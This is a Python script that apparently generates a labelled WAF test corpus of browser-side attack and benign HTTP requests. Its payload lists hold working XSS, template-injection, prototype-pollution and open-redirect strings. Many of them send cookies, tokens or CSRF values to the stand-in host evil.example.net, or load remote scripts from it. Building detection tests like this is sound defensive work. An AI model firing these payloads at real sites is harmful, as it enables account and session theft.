#!/usr/bin/env python3
"""Held-out request corpus ``clientside``: browser-side attacks and the rich content that looks like them.

What it is
    A deterministic generator of labelled HTTP requests (JSON lines, the shape described in
    /work/shared/corpora/README.md) for the browser-side attack family: cross-site scripting
    with modern HTML5 / SVG / MathML vectors and newer event handlers (popover and
    onbeforetoggle, details ontoggle, oncontentvisibilityautostatechange, onanimationstart,
    onpointerrawupdate, SVG animate onbegin, xlink:href, MathML maction, iframe srcdoc,
    object / embed, base href, meta refresh, link rel=import), mutation XSS (noscript /
    style / template / comment parsing differentials), obfuscated javascript: / data: /
    vbscript: URLs, dangling-markup injection, CSS injection and exfiltration, client-side
    template injection (AngularJS sandbox escapes, Vue, Alpine, htmx, Knockout), DOM
    clobbering, prototype pollution aimed at script gadgets, JSONP callback injection, open
    redirects used for token theft, and payloads carried in JSON APIs, reflected headers,
    file names, SVG uploads and Markdown.
    The benign half is the legitimate traffic of the same applications: rich-text editor
    HTML (TinyMCE, CKEditor, Quill deltas, ProseMirror / Tiptap JSON), page-builder JSON
    with markup and inline styles, HTML e-mail templates, Markdown with links and images,
    script-free SVG icon uploads, CSS themes, front-end error and CSP reports with stack
    traces, analytics beacons full of URLs, OAuth flows with proper redirect_uri values,
    JSONP with ordinary callbacks, feature-flag JSON, htmx / Alpine application traffic;
    about 15 % is ``dev-content``: Q&A posts, docs-CMS pages and snippet APIs whose user
    content is itself HTML, JavaScript, CSS or framework templates.

Applications
    shop.example.com (search, reviews), blog.example.org (comments), help.example.com
    (support desk), id.example.com (OAuth / OIDC provider), app.example.net (SPA + JSON API,
    GraphQL), files.example.com (uploads), wiki.example.org (Markdown wiki),
    mail.example.com (e-mail campaign builder), builder.example.com (page builder),
    collect.example.net (analytics), errors.example.com (error / CSP reports),
    flags.example.com (feature flags), widgets.example.org (JSONP widgets),
    qa.example.net (developer Q&A), docs.example.com (docs CMS), snippets.example.net
    (code snippets / playground API).

Modes
    ``attacks``  -> every request is a real attack or probe, ``expect: detect``; categories
                    xss, generic (open redirect, prototype pollution), crlf.
    ``benign``   -> legitimate requests, ``expect: pass``; categories benign and dev-content.

Written blind
    Written from general knowledge of real browser traffic and of published client-side
    attack techniques, aimed at attack classes.  No Palisade rule, test, test data, proxy
    code or other corpus script was read while writing it, and the WAF was not run.

Run
    python3 scripts/corpus-clientside.py attacks > rulesets/tests/data/clientside-attacks.jsonl
    python3 scripts/corpus-clientside.py benign  > rulesets/tests/data/clientside-benign.jsonl
"""

import base64
import json
import random
import sys
from urllib.parse import quote, quote_plus, urlencode

SET = "clientside"
SEED = 0xC11E57DE
rnd = random.Random(SEED)

# --------------------------------------------------------------------------- helpers

UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
]
TOOL_UAS = [
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.6",
         "es-ES,es;q=0.9", "nl-NL,nl;q=0.9,en;q=0.8", "ja-JP,ja;q=0.9,en;q=0.5"]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
ACCEPT_JSON = "application/json, text/plain, */*"


def hexid(n=32):
    return "".join(rnd.choice("0123456789abcdef") for _ in range(n))


def b62(n=22):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    return "".join(rnd.choice(alphabet) for _ in range(n))


def b64(s):
    return base64.b64encode(s.encode()).decode()


def enc_browser(s):
    """What a browser puts on the wire for a query value typed or linked by an attacker:
    the URL Standard special-query set plus the characters that would break the query."""
    return quote(s, safe="!$()*,/:;=?@[]{}|^`~\\")


def enc_strict(s):
    """Every reserved byte encoded (tools, fetch with encodeURIComponent)."""
    return quote(s, safe="")


def enc_form(s):
    """application/x-www-form-urlencoded (HTML form GET)."""
    return quote_plus(s, safe="")


ENCODERS = [enc_browser, enc_strict, enc_form]


def qs(pairs, enc=enc_strict):
    return "&".join(f"{enc_strict(k) if enc is not enc_browser else enc_browser(k)}={enc(v)}" for k, v in pairs)


def form_body(pairs):
    return "&".join(f"{quote_plus(k, safe='')}={quote_plus(v, safe='')}" for k, v in pairs)


def session_cookie(app="sid"):
    return f"{app}={hexid(32)}"


def browser_headers(host, accept=ACCEPT_HTML, referer=None, cookie=None, ua=None, extra=None,
                    ctype=None, origin=None, fetch_mode=None):
    h = [["Host", host], ["User-Agent", ua or rnd.choice(UAS)], ["Accept", accept],
         ["Accept-Language", rnd.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br"]]
    if ctype:
        h.append(["Content-Type", ctype])
    if origin:
        h.append(["Origin", origin])
    if referer:
        h.append(["Referer", referer])
    if cookie:
        h.append(["Cookie", cookie])
    if fetch_mode == "navigate":
        h += [["Sec-Fetch-Dest", "document"], ["Sec-Fetch-Mode", "navigate"], ["Sec-Fetch-Site", "none"]]
    elif fetch_mode == "cors":
        h += [["Sec-Fetch-Dest", "empty"], ["Sec-Fetch-Mode", "cors"], ["Sec-Fetch-Site", "same-origin"]]
    if extra:
        h += [list(x) for x in extra]
    return h


def api_headers(host, ctype="application/json", token=True, ua=None, extra=None, cookie=None):
    h = [["Host", host], ["User-Agent", ua or rnd.choice(UAS)], ["Accept", ACCEPT_JSON]]
    if ctype:
        h.append(["Content-Type", ctype])
    if token:
        h.append(["Authorization", "Bearer eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9." + b62(60) + "." + b62(43)])
    if cookie:
        h.append(["Cookie", cookie])
    h.append(["Origin", "https://" + host])
    if extra:
        h += [list(x) for x in extra]
    return h


def multipart(fields):
    """fields: (name, value) or (name, filename, content_type, content)."""
    boundary = "----WebKitFormBoundary" + b62(16)
    parts = []
    for f in fields:
        if len(f) == 2:
            parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{f[0]}"\r\n\r\n{f[1]}\r\n')
        else:
            name, fname, ct, content = f
            parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{fname}"\r\n'
                         f'Content-Type: {ct}\r\n\r\n{content}\r\n')
    body = "".join(parts) + f"--{boundary}--\r\n"
    return "multipart/form-data; boundary=" + boundary, body


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def jdump(o):
    return json.dumps(o, ensure_ascii=False, separators=(",", ":")) if rnd.random() < 0.5 else json.dumps(o, ensure_ascii=False)


OUT = []
_counters = {}


def emit(kind, slug, category, method, uri, headers, body=None):
    n = _counters.get((kind, slug), 0) + 1
    _counters[(kind, slug)] = n
    rec = {"id": f"{SET}/{kind}/{slug}-{n:03d}", "set": SET, "category": category,
           "expect": "detect" if kind == "attacks" else "pass", "method": method, "uri": uri,
           "version": "HTTP/1.1", "headers": headers}
    if body is not None:
        rec["body"] = body
    OUT.append(rec)


# =========================================================================== attack pools

_SVG_IMG_ONERR = ("<svg id='x' xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' "
                  "width='100' height='100'><image href='1' onerror='alert(document.domain)'/></svg>")
_SVG_SCRIPT = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(document.cookie)'/>"
_HTML_SCRIPT = "<script>alert(document.domain)</script>"

# Modern HTML5 / SVG / MathML vectors (reflected into an HTML body context).
HTML5_VECTORS = [
    '<button popovertarget=x>Click me</button><div popover id=x onbeforetoggle=alert(document.domain)>x</div>',
    '<div popover id=newsletter onbeforetoggle="fetch(\'https://evil.example.net/c?\'+document.cookie)">promo</div><button popovertarget=newsletter>Open</button>',
    '<input type=button popovertarget=p value=Go><div popover id=p ontoggle=alert(1)>',
    '<details open ontoggle=alert(document.domain)>',
    '<details/open/ontoggle="self[\'al\'+\'ert\'](1)">',
    '<details ontoggle=confirm`1` open><summary>x</summary></details>',
    '<div style="content-visibility:auto" oncontentvisibilityautostatechange=alert(1)>x</div>',
    '<xss oncontentvisibilityautostatechange=alert(document.cookie) style=display:block;content-visibility:auto>',
    '<style>@keyframes x{}</style><xss style="animation-name:x" onanimationstart="alert(1)"></xss>',
    '<style>@keyframes slidein{from{left:0}}</style><b style="animation:slidein 1s" onanimationend=alert(document.domain)>hi</b>',
    '<p style="transition:color 1s" ontransitionend=alert(1) id=t>x</p>',
    '<div onpointerrawupdate=alert(document.domain) style="position:fixed;inset:0">',
    '<xss onpointerrawupdate=alert(1)>move the mouse</xss>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set onbegin=alert(document.cookie) attributename=x to=1>',
    '<svg><discard onbegin=alert(1)>',
    '<svg><animatetransform onbegin=alert(1) attributeName=transform>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>',
    '<svg><a xlink:href="javascript:alert(document.domain)"><rect width=100 height=100 /></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,' + b64(_SVG_IMG_ONERR) + '#x"></use></svg>',
    '<svg><use xlink:href="https://evil.example.net/sprite.svg#x"/></svg>',
    '<svg><script href=data:,alert(1) />',
    '<svg><script xlink:href="https://evil.example.net/x.js"></script></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(parent.document.cookie)</script>"></iframe></foreignObject></svg>',
    '<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click<mtext>x</mtext></maction></math>',
    '<math><mtext><a href="javascript:alert(document.domain)">click</a></mtext></math>',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(parent.document.domain)&gt;"></iframe>',
    '<iframe srcdoc="<script>top.location=\'https://evil.example.net/?\'+top.document.cookie</script>">',
    '<iframe src="javascript:alert(`xss`)">',
    '<object data="javascript:alert(1)">',
    '<object data="data:text/html;base64,' + b64(_HTML_SCRIPT) + '"></object>',
    '<embed src="data:image/svg+xml;base64,' + b64(_SVG_SCRIPT) + '" type="image/svg+xml">',
    '<embed src=https://evil.example.net/x.swf allowscriptaccess=always>',
    '<base href="https://evil.example.net/">',
    '<base href=//evil.example.net/static/><script src=/app.js></script>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(document.domain)">',
    '<meta http-equiv=refresh content="0; url=https://evil.example.net/login.html">',
    '<meta http-equiv="refresh" content="0;url=data:text/html;base64,' + b64(_HTML_SCRIPT) + '">',
    '<link rel=import href="https://evil.example.net/x.html">',
    '<link rel=stylesheet href=https://evil.example.net/x.css><link rel=modulepreload href=//evil.example.net/m.js>',
    '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
    '<input autofocus onfocus=alert(document.domain)>',
    '<select autofocus onfocus=alert(1)></select>',
    '<textarea autofocus onfocusin=alert(1)>x</textarea>',
    '<video><source onerror="alert(document.cookie)"></video>',
    '<audio src=1 onerror=alert(1)>',
    '<video poster=javascript:alert(1)//></video>',
    '<body onpageshow=alert(1)>',
    '<body onhashchange=alert(1)><a href=#x>x</a>',
    '<marquee onstart=alert(1)>hello</marquee>',
    '<xss contenteditable onbeforeinput=alert(1)>type here</xss>',
    '<xss onscrollend=alert(1) style="display:block;overflow:auto;height:40px"><br><br><br><br>',
    '<xss onbeforecopy=alert(1) contenteditable autofocus>copy me</xss>',
    '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
    '<input type=search onsearch=alert(1) value=x autofocus>',
    '<form><button formaction=javascript:alert(document.domain)>Submit</button></form>',
    '<isindex type=image src=1 onerror=alert(1)>',
    '<img src=x onerror=alert(document.domain)>',
    '<img/src/onerror=alert(1)>',
    '<IMG SRC=1 ONERROR=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
    '<img src=x onerror="eval(atob(\'' + b64("fetch('https://evil.example.net/c?'+document.cookie)") + '\'))">',
    '<img src=1 onerror=import(\'//evil.example.net/m.js\')>',
    '<svg onload=alert(1)>',
    '<svg/onload=confirm(document.domain)//',
    '"><svg/onload=alert`1`>',
    '\'><img src=x onerror=prompt(1)>',
    '<script>alert(document.domain)</script>',
    '<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>',
    '<script src=https://evil.example.net/hook.js></script>',
    '<script>fetch("https://evil.example.net/log",{method:"POST",body:localStorage.getItem("token")})</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<a href=javascript:alert(1)>click</a>',
    '<a id=x tabindex=1 onfocus=alert(1)></a>',
    '<frameset onload=alert(1)>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<x onclick=alert(1)>click this!',
    '<style onload=alert(1)></style>',
    '<keygen autofocus onfocus=alert(1)>',
]

# Mutation XSS: markup that a sanitizer sees as harmless but a re-parse turns into script.
MXSS_VECTORS = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noscript><style></noscript><img src=x onerror=alert(document.domain)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><mi><li><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<template><style></template><img src=x onerror=alert(document.domain)></style></template>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<noframes><p title="</noframes><svg onload=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><a title="</title><img src=x onerror=alert(document.cookie)>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>',
    '<a href="&#x6a;avascript:alert(1)"><svg><desc><![CDATA[</desc><img src=x onerror=alert(1)>]]></desc></svg></a>',
    '<table><caption><svg><title><table><td><style><img src=x onerror=alert(1)></style>',
]

# Obfuscated script-bearing URLs for href / src / link fields.
JS_URLS = [
    'javascript:alert(document.domain)',
    'JaVaScRiPt:alert(document.cookie)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    'jav\r\nascript:alert(1)',
    ' \x01javascript:alert(1)',
    '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)',
    '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)',
    '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
    'javascript&colon;alert(1)',
    'javas&Tab;cript&colon;alert(document.domain)',
    'java&NewLine;script:alert(1)',
    'jav&#x09;ascript:alert(1)',
    'javascript://%0aalert(1)',
    'javascript://example.com/%0Aalert(document.domain)',
    'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)',
    'javascript:void(fetch(\'https://evil.example.net/?c=\'+document.cookie))',
    'javascript:top[\'al\'+\'ert\'](1)',
    'javascript:\\u0061lert(1)',
    'javascript:eval(atob(\'' + b64('alert(document.domain)') + '\'))',
    'data:text/html,<script>alert(document.domain)</script>',
    'data:text/html;base64,' + b64('<script>alert(1)</script>'),
    'DATA:text/html;charset=utf-8,%3Csvg%20onload%3Dalert(1)%3E',
    'data:image/svg+xml;base64,' + b64(_SVG_SCRIPT),
    'vbscript:msgbox("XSS")',
    'VBScript:Execute("MsgBox 1")',
    'livescript:alert(1)',
]

# Script-context breakouts (value reflected inside a <script> string or inline handler).
JS_CONTEXT = [
    "';alert(String.fromCharCode(88,83,83))//",
    '"-prompt(document.domain)-"',
    "'-alert(1)-'",
    '\\";alert(document.cookie);//',
    '</script><svg onload=alert(1)>',
    '</script><script>alert(document.domain)</script>',
    '${alert(document.domain)}',
    "');fetch('https://evil.example.net/x?'+document.cookie);('",
    '"}};alert(1);//',
    "\\x3csvg onload=alert(1)\\x3e",
    '\\u003cimg src=x onerror=alert(1)\\u003e',
    "';throw onerror=alert,1//",
    "'+{valueOf:alert}+'",
]

# Dangling markup: unterminated attribute that swallows the page until the next quote.
DANGLING = [
    '"><img src=\'https://evil.example.net/log?html=',
    "'><img src=\"//evil.example.net/?d=",
    '<meta http-equiv="refresh" content=\'0;URL=https://evil.example.net/steal?',
    '"><base target=\'',
    '"><a href=\'https://evil.example.net/?leak=',
    '"><link rel=stylesheet href="https://evil.example.net/?',
    '"><form action="https://evil.example.net/collect" method=post><button>Continue</button><textarea name=rest>',
    '<table background=\'//evil.example.net/?',
    '"><button form=f formaction="https://evil.example.net/x">Click</button><form id=f><textarea name=x>',
    '"><iframe name=\'',
    '"><input type=hidden name=x value=\'',
    '<img src="https://evil.example.net/p.gif?csrf=',
]

# CSS injection and exfiltration (custom-theme fields, style attributes, color pickers).
CSS_INJ = [
    "}</style><style>@import url(//evil.example.net/x.css);</style>",
    "red;}input[name=csrf_token][value^=a]{background:url(https://evil.example.net/leak?p=a)}",
    "#fff} input[type=password][value$=\"1\"]{background-image:url(\"https://evil.example.net/k?c=1\")}",
    "@import 'https://evil.example.net/steal.css';",
    "@import url(\"//evil.example.net/exfil.css?sess=1\");",
    "blue;background-image:url(\"javascript:alert(document.domain)\")",
    "width:expression(alert(document.cookie))",
    "x:expr/**/ession(alert(1))",
    "behavior:url(https://evil.example.net/xss.htc)",
    "-moz-binding:url(//evil.example.net/xss.xml#xss)",
    "</style><script>alert(document.domain)</script>",
    "</style><img src=x onerror=alert(1)>",
    "red}@font-face{font-family:leak;src:url(https://evil.example.net/?c=a);unicode-range:U+0061}body{font-family:leak}",
    "*{background:url(//evil.example.net/?",
    "#000}a[href*=\"reset-token\"]{background:url(https://evil.example.net/?t)}",
    "\\3c /style\\3e \\3c script\\3e alert(1)\\3c /script\\3e",
    "red;}:root{--x:url(https://evil.example.net/x)}html:has(input[name=otp][value^=\"4\"]){background:var(--x)}",
]

# Client-side template injection: AngularJS sandbox escapes, Vue, Alpine, htmx, Knockout, Polymer.
CSTI = [
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$eval.constructor('fetch(\"//evil.example.net/\"+document.cookie)')()}}",
    "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.composedPath()|orderBy:'(z=alert)(document.cookie)'></div>",
    "<input ng-focus=$event.view.alert('XSS') autofocus>",
    "<div ng-app>{{$new.constructor('alert(1)')()}}</div>",
    "{{_c.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(document.domain)}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "<div v-html=\"''.constructor.constructor('alert(1)')()\">a</div>",
    "<p v-show=\"_c.constructor`alert(1)`()\">",
    "<div x-data x-init=\"alert(document.domain)\"></div>",
    "<div x-data=\"{a:fetch('https://evil.example.net/?c='+document.cookie)}\"></div>",
    "<button x-data x-on:click=\"eval(atob('" + b64("alert(document.domain)") + "'))\">Open</button>",
    "<template x-data x-init=\"$el.ownerDocument.location='https://evil.example.net/'\"></template>",
    "<div hx-on:htmx:load=\"alert(document.domain)\">x</div>",
    "<button hx-get=\"https://evil.example.net/payload.html\" hx-trigger=\"load\" hx-swap=\"outerHTML\">x</button>",
    "<div hx-on=\"htmx:afterSwap: fetch('//evil.example.net/'+document.cookie)\"></div>",
    "<img src=x hx-trigger=\"load\" hx-post=\"/account/email\" hx-vals='{\"email\":\"attacker@evil.example.net\"}'>",
    "<div data-bind=\"html: '<img src=x onerror=alert(1)>'\"></div>",
    "<span data-bind=\"text: constructor.constructor('alert(document.cookie)')()\"></span>",
    "<input data-bind=\"value: alert(1)\">",
    "[[constructor.constructor('alert(1)')()]]",
    "<div data-ng-init=\"constructor.constructor('alert(1)')()\"></div>",
]

# DOM clobbering aimed at script gadgets (config objects, script src lookups).
DOM_CLOBBER = [
    '<a id=defaultConfig><a id=defaultConfig name=scriptSrc href="https://evil.example.net/x.js">',
    '<a id=CONFIG name=cdnUrl href="https://evil.example.net/payload.js"></a><a id=CONFIG></a>',
    '<form id=x><input id=attributes><input id=attributes></form><img src=x onerror=alert(1)>',
    '<iframe name=APP_SETTINGS srcdoc="<a id=scriptUrl href=\'https://evil.example.net/x.js\'></a>"></iframe>',
    '<a id=ga_config name=url href="javascript:alert(document.domain)">',
    '<img name=getElementById><img name=cookie src=x onerror=alert(1)>',
    '<form name=currentScript><img name=src src="https://evil.example.net/x.js"></form>',
    '<a id=__proto__><a id=__proto__ name=isAdmin href=true>',
    '<embed name=importScripts src="data:,alert(1)"><a id=someObject name=url href=//evil.example.net/x.js>',
    '<form id=recaptcha><input name=siteKey value=x><a id=grecaptcha name=src href=https://evil.example.net/g.js></a></form>',
]

# Prototype pollution through query strings and JSON, aimed at known client-side gadgets.
PROTO_QS = [
    [("__proto__[isAdmin]", "true")],
    [("__proto__[innerHTML]", "<img src=x onerror=alert(1)>")],
    [("constructor[prototype][srcdoc][]", "<script>alert(document.domain)</script>")],
    [("__proto__[transport_url]", "data:,alert(1);//")],
    [("__proto__.hitCallback", "alert(document.domain)")],
    [("__proto__[src]", "data:,alert(1)//")],
    [("__proto__[preventDefault]", "x"), ("__proto__[handleObj]", "x"),
     ("__proto__[delegateTarget]", "<img/src/onerror=alert(1)>")],
    [("__proto__[ALLOWED_ATTR][0]", "onerror"), ("__proto__[ALLOWED_ATTR][1]", "src")],
    [("__proto__[sourceURL]", "\u2028\u2029alert(1)")],
    [("__proto__[tagName]", "img"), ("__proto__[src][]", "x:"), ("__proto__[onerror][]", "alert(1)")],
    [("a[constructor][prototype][polluted]", "yes")],
    [("__pro__proto__to__[x]", "1")],
    [("constructor.prototype.html", "<svg onload=alert(1)>")],
    [("__proto__[div][0]", "1"), ("__proto__[div][1]", "<img src onerror=alert(1)>"), ("__proto__[div][2]", "1")],
    [("x[__proto__][template][nodeType]", "1"), ("x[__proto__][template][innerHTML]", "<img src onerror=alert(1)>")],
    [("__proto__[BOOMR]", "1"), ("__proto__[url]", "//evil.example.net/x.js")],
    [("__proto__[jquery]", "x"), ("__proto__[url]", "https://evil.example.net/x.js"), ("__proto__[dataType]", "script")],
]
PROTO_JSON = [
    {"__proto__": {"isAdmin": True}},
    {"constructor": {"prototype": {"polluted": "yes"}}},
    {"settings": {"theme": "dark", "__proto__": {"innerHTML": "<img src=x onerror=alert(1)>"}}},
    {"filters": {"__proto__": {"sourceURL": "\nfetch('//evil.example.net/'+document.cookie)"}}},
    {"user": {"name": "x", "constructor": {"prototype": {"role": "admin"}}}},
    {"__proto__": {"escapeFunction": "1;return process.mainModule.require('child_process')"}},
]

JSONP_CB = [
    "alert(document.domain)//",
    "alert(1);foo",
    "document.location='https://evil.example.net/?'+document.cookie;//",
    "<script>alert(1)</script>",
    "eval(atob('" + b64("alert(document.cookie)") + "'))//",
    "x);fetch('//evil.example.net/'+document.cookie);//",
    "/**/alert(1)//",
    "self['ale'+'rt'](document.domain)//",
    "Function('alert(1)')()//",
    "jQuery123_456;alert(1);//",
    "(function(){location='https://evil.example.net/'+document.cookie})();var x",
    "%3Csvg%20onload=alert(1)%3E",
]

# Open redirects used to steal tokens / codes (structural host confusion, not a plain foreign host).
OPEN_REDIRECTS = [
    "//evil.example.net/",
    "/\\evil.example.net",
    "https:evil.example.net",
    "//evil.example.net/%2e%2e",
    "////evil.example.net/",
    "\\/\\/evil.example.net",
    "/%09/evil.example.net",
    "/%5Cevil.example.net/",
    "https://app.example.com@evil.example.net/",
    "https://app.example.com.evil.example.net/",
    "//evil.example.net%2F%2E%2E",
    "//evil%E3%80%82example%E3%80%82net/",
    "/\t/evil.example.net",
    "https://evil.example.net\\@app.example.com/",
    "http:/\\/\\evil.example.net",
    "/%2F%2Fevil.example.net",
    "https://evil.example.net#@app.example.com",
    "https://evil.example.net%23.app.example.com/",
    "///evil.example.net/%2F..",
    "https://app.example.com%40evil.example.net",
]
# OAuth redirect_uri confusion for authorization-code / token theft.
OAUTH_REDIRECTS = [
    "https://app.example.com/callback/../../redirect?url=https://evil.example.net/",
    "https://app.example.com/oauth/callback/%2e%2e/%2e%2e/logout?next=//evil.example.net/",
    "https://app.example.com@evil.example.net/callback",
    "https://app.example.com.evil.example.net/callback",
    "https://evil.example.net\\@app.example.com/callback",
    "https://app.example.com%2F%2F@evil.example.net/",
    "https://evil.example.net%23.app.example.com/callback",
    "https://app.example.com/callback?next=//evil.example.net",
    "https:app.example.com@evil.example.net",
    "javascript://app.example.com/%0aalert(document.domain)",
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "'\"--></style></script><svg onload=alert(document.domain)>",
    "\"'><img src=x onerror=alert(1)><!--",
    "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)``>",
    "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*&lt;svg/*/onload=alert()//>",
]

BLIND_XSS = [
    '"><script src=https://xss.evil.example.net/a7f3></script>',
    "<img src=x id=" + b64('var a=document.createElement("script");a.src="https://evil.example.net/b";document.body.appendChild(a);') + " onerror=eval(atob(this.id))>",
    "'\"><input onfocus=eval(atob(this.id)) id=" + b64('import("https://evil.example.net/p.js")') + " autofocus>",
    '<script>$.getScript("//evil.example.net/bx")</script>',
    '"><iframe srcdoc="&#60;&#115;&#99;&#114;&#105;&#112;&#116;&#32;&#115;&#114;&#99;&#61;&#47;&#47;evil.example.net/b&#62;&#60;&#47;&#115;&#99;&#114;&#105;&#112;&#116;&#62;">',
    "javascript:eval('var a=document.createElement(\\'script\\');a.src=\\'https://evil.example.net/b\\';document.body.appendChild(a)')",
]


# =========================================================================== attack carriers

def _get(host, path, pairs, enc, referer=None, cookie=None, accept=ACCEPT_HTML, ua=None, extra=None):
    uri = path + ("?" + qs(pairs, enc) if pairs else "")
    return "GET", uri, browser_headers(host, accept=accept, referer=referer, cookie=cookie, ua=ua,
                                       extra=extra, fetch_mode="navigate" if rnd.random() < 0.4 else None)


def g_shop_search(p, enc):
    return _get("shop.example.com", "/search", [("q", p), ("page", "1")], enc,
                cookie=session_cookie("shop_session") + "; cart=" + hexid(12))


def g_blog_search(p, enc):
    return _get("blog.example.org", "/", [("s", p)], enc, referer="https://blog.example.org/")


def g_help_search(p, enc):
    return _get("help.example.com", "/hc/en-us/search", [("utf8", "\u2713"), ("query", p)], enc,
                cookie="_help_session=" + hexid(40))


def g_login_error(p, enc):
    return _get("id.example.com", "/account/login", [("error", p), ("next", "/account")], enc)


def g_preview(p, enc):
    return _get("app.example.net", "/api/v1/render/preview", [("title", p), ("lang", "en")], enc,
                accept="text/html,*/*;q=0.8", cookie=session_cookie("app_sid"))


def g_filter(p, enc):
    return _get("shop.example.com", "/c/shoes", [("color", p), ("size", "42"), ("sort", "price_asc")], enc)


def g_path(p, enc):
    return ("GET", "/static/pages/" + quote(p, safe="()=!*,;:@") + ".html",
            browser_headers("docs.example.com", referer="https://docs.example.com/"))


def g_newsletter(p, enc):
    return _get("mail.example.com", "/newsletter/subscribed", [("email", p), ("list", "weekly")], enc)


def g_wiki(p, enc):
    return _get("wiki.example.org", "/wiki/Special:Search", [("search", p), ("go", "Go")], enc)


def g_map(p, enc):
    return _get("widgets.example.org", "/embed/map", [("label", p), ("lat", "52.3702"), ("lng", "4.8952"),
                                                       ("zoom", "13")], enc, referer="https://blog.example.org/contact")


